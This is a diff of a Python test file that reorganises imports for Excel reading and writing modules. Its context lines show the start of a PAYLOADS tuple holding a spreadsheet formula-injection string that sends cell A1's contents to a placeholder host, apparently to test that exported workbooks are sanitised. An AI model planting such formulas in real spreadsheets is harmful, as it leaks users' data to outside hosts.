@@ -13,11 +13,11 @@ from pathlib import Path
 import openpyxl
 import pytest
 
+from kinerja.dataset.excel.results_workbook import write_results
+from kinerja.dataset.excel.tree import read_xlsx
+from kinerja.dataset.excel.writer import realization_workbook, write_xlsx
 from kinerja.dataset.measure import measure
-from kinerja.dataset.results_workbook import write_results
 from kinerja.dataset.schema import Dataset
-from kinerja.dataset.xlsx_reader import read_xlsx
-from kinerja.dataset.xlsx_writer import realization_workbook, write_xlsx
 
 PAYLOADS = (
     '=HYPERLINK("http://contoh.invalid/?d="&A1,"Klik")',
